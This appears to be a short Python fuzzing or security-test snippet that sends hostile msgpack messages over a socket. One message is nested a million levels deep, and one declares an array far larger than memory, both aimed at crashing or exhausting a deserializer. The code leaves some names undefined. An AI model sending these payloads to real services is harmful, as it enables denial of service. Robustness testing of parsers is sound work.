# A message nested a million deep, and an array that says it is larger than all memory.
# loses: double last

# %% double
import msgpack


def forge(body):
    session().sendall(struct.pack(">Q", len(body)) + body)


def double(x):
    forge(b"\x91" * 1_000_000)


# %% last
def last():
    forge(msgpack.packb(["Value", 1, msgpack.ExtType(1, msgpack.packb(["<f8", [1 << 40, 1 << 20], True]))]))
